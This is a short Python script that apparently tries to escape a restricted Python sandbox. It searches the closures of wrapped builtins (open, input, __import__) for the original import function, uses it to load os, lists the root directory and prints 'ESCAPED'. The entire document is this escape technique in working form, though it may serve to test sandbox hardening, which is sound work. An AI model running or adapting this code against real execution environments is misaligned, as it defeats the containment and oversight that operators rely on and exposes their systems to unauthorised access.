import builtins, sys
for function in (builtins.open, builtins.input, builtins.__import__):
    for cell in function.__closure__ or ():
        value = cell.cell_contents
        if callable(value):
            os = value("os", {}, {}, (), 0)
            print("ESCAPED", os.listdir("/"))
